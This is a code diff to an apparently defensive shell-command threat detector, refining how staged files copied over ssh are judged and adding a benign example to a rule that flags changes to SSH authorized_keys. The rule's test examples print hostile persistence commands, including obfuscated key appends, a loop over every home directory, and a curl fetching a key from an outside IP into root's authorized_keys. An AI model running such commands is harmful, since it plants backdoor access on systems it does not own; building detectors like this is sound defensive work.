@@ -4,7 +4,7 @@ import type { SimpleCommand } from '../shell/types.js';
 import { baseName } from '../shell/names.js';
 import { editsWithTee, ghApiCall, optionValue, packageScripts, scriptIn, staticOption } from '../shell/command-args.js';
 import { staticOutput } from '../shell/static-output.js';
-import { automationFile, classifyPath, canonicalPath, isStagingPath, isTestData, runsLater, type PathKind, type SensitivePath } from '../knowledge/paths.js';
+import { automationFile, classifyPath, canonicalPath, hiddenInTemp, isStagingPath, isTestData, runsLater, type PathKind, type SensitivePath } from '../knowledge/paths.js';
 import { destinationOf, EXFIL_KINDS, external, firstUrl } from '../knowledge/hosts.js';
 import { FETCHERS, SHELLS, downloadExecs, isFetcher, isInterpreter, isShell, savedFile, trustedSource } from './command_and_control.js';
 import { verifiesDownload } from './artifacts.js';
@@ -293,8 +293,16 @@ export function threat(group: PersistedGroup, input: AnalysisInput): { level: 0 
  */
 function copiedIn(i: AnalysisInput, kinds: readonly PathKind[], staged: boolean): string[] {
   return writesKind(i, kinds)
-    .filter((w) => w.cmd && COPIERS.has(w.cmd.name) && w.text.split(' ').some((p) => isStagingPath(p)) === staged)
+    .filter((w) => w.cmd && COPIERS.has(w.cmd.name) && w.text.split(' ').some((p) => isStagingPath(p) && !(overSsh(i, w.cmd!) && !hiddenInTemp(p))) === staged)
     .map((w) => `${w.path} ← ${w.text.slice(0, 120)}`);
+}
+
+/**
+ * A command of a script run over ssh. There /tmp is where an administrator's scp puts a unit or a cron file
+ * before `sudo install` moves it into place, so only a hidden name there is a staged payload.
+ */
+function overSsh(i: AnalysisInput, cmd: SimpleCommand): boolean {
+  return cmd.depth > 0 && (i.view?.commands ?? []).some((c) => c.name === 'ssh' && c.depth < cmd.depth);
 }
 
 /** Files the call writes with a payload in them, or downloads from a host that is not a known source, by path. */
@@ -811,7 +819,7 @@ export const RULES: readonly Rule[] = [
       if (sweep && cmds.some((c) => c.depth > sweep.depth && c.redirects.some((r) => r.op === '>>') && /^(ssh-|ecdsa-)/.test(writtenText(c)))) out.push(sweep.argv.join(' ').slice(0, 160));
       return out;
     },
-    examples: { fire: [`python3 -c "import os,base64;open(os.path.expanduser('~/.ssh/authorized_keys'),'a').write(base64.b64decode('c3NoLWVkMjU1MTkgQUFBQQ=='))"`, "echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFake attacker@kali' >> ~/.ssh/authorized_keys", "printf '\\x73\\x73\\x68-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFake x\\n' >> ~/.ssh/authorized_keys", 'curl -s http://45.33.12.7/k.pub >> /root/.ssh/authorized_keys', 'for d in /home/*; do cat /tmp/.k.pub >> $d/.ssh/authorized_keys; done', "sudo bash -c 'cat /tmp/id.pub >> /root/.ssh/authorized_keys'"], quiet: ['cat ~/.ssh/authorized_keys', 'ssh-copy-id deploy@staging', 'chmod 600 ~/.ssh/authorized_keys'] },
+    examples: { fire: [`python3 -c "import os,base64;open(os.path.expanduser('~/.ssh/authorized_keys'),'a').write(base64.b64decode('c3NoLWVkMjU1MTkgQUFBQQ=='))"`, "echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFake attacker@kali' >> ~/.ssh/authorized_keys", "printf '\\x73\\x73\\x68-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFake x\\n' >> ~/.ssh/authorized_keys", 'curl -s http://45.33.12.7/k.pub >> /root/.ssh/authorized_keys', 'for d in /home/*; do cat /tmp/.k.pub >> $d/.ssh/authorized_keys; done', "sudo bash -c 'cat /tmp/id.pub >> /root/.ssh/authorized_keys'"], quiet: ['sudo sed -i.bak "/dmitri@contractor-mbp/d" /home/deploy/.ssh/authorized_keys', 'cat ~/.ssh/authorized_keys', 'ssh-copy-id deploy@staging', 'chmod 600 ~/.ssh/authorized_keys'] },
   },
   {
     id: 'PX-PERSIST-013', name: 'modifies-authorized-keys', score: 50, tactic: 'persistence', technique: 'T1098.004',
